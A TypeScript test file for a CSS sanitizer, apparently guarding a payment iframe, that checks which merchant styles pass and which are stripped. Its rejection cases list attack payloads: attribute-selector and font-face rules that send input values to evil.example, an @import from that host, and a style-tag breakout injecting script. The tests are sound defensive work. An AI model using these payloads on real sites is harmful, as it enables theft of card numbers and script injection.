/** IframeParameters.CSS: the allowed CSS passes, and nothing else. */
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { allowedCss } from '../../src/sandbox/pages/merchant-css.js';

describe('a merchant’s style text', () => {
  it.each([
    ['button { color: #fff; background-color: RGB(1, 2, 3) }', 'button{color:#fff;background-color:RGB(1, 2, 3)}'],
    ['body{font-family:"Open Sans", Arial}', 'body{font-family:"Open Sans", Arial}'],
    ['form button:hover{border:1px solid red!important}', 'form button:hover{border:1px solid red}'],
    ['/* look */ body { padding: 4px 8px; }', 'body{padding:4px 8px}'],
    ['body{color-scheme:light dark;color:red}', ':root{color-scheme:light dark}body{color:red}'],
    ['@import url(//evil.example/a.css); body{color:red}', 'body{color:red}'],
    ['body{color:red;width:9px;float:left}', 'body{color:red;width:9px}'],
  ])('%s becomes %s', (css, allowed) => expect(allowedCss(css)).toBe(allowed));

  it('reaches Florin’s own fields by their parts', () => {
    expect(allowedCss('input:focus{color:red}')).toBe('input:focus{color:red}.upgraded::part(input):focus{color:red}');
  });

  it.each([
    'input[value^="4"]{color:red}',
    'input[value^="4"]{background:url(https://evil.example/4)}',
    'body{background:url(https://evil.example/x)}',
    'body{background:image-set("https://evil.example/x" 1x)}',
    'body{color:var(--x)}',
    'body{color:expression(alert(1))}',
    'body{color:attr(value)}',
    'body{font-family:"a\\"}*{x"}',
    'body{color:r\\65 d}',
    '</style><script>alert(1)</script>{color:red}',
    '@font-face{font-family:x;src:url(https://evil.example/f);unicode-range:U+34}',
    '@media all{input{color:red}}',
    '*{color:red}',
    'html{color:red}',
    'input:has(*){color:red}',
    '.upgraded::part(input){color:red}',
    'body{position:fixed}',
    'body{content:"x"}',
    'body{--florin-ink:red}',
    'body{margin:-100px}',
    'body{constructor:red}',
    'constructor{color:red}',
    '{color:red}',
    'body{',
    '',
  ])('%s is removed', (css) => expect(allowedCss(css)).toBe(''));

  it('never contains anything that could load, escape or end the style', () => {
    const piece = fc.oneof(
      fc.string({ maxLength: 12 }),
      fc.constantFrom(
        'input',
        'body',
        '{',
        '}',
        ';',
        ':',
        ',',
        'color',
        'background',
        'url(',
        'red',
        '#fff',
        '</style>',
      ),
      fc.constantFrom(
        '@import',
        '@media x',
        '"',
        "'",
        '\\',
        '/*',
        '*/',
        'font-family',
        '[value]',
        ':has(',
        '1px',
        '::part(',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        expect(allowedCss(pieces.join(''))).not.toMatch(/[<>\\@[\]]|url|\/\*|:has|image/i);
      }),
      { numRuns: 3_000 },
    );
  });

  it('has a limited length', () => {
    const many = Array.from({ length: 3_000 }, () => 'input').join(',');
    expect(allowedCss(`${many}{color:red}`)).toBe('');
    const rules = Array.from({ length: 2_000 }, () => 'input,label,button{color:red}').join('');
    expect(allowedCss(rules).length).toBeLessThan(60_000);
  });
});
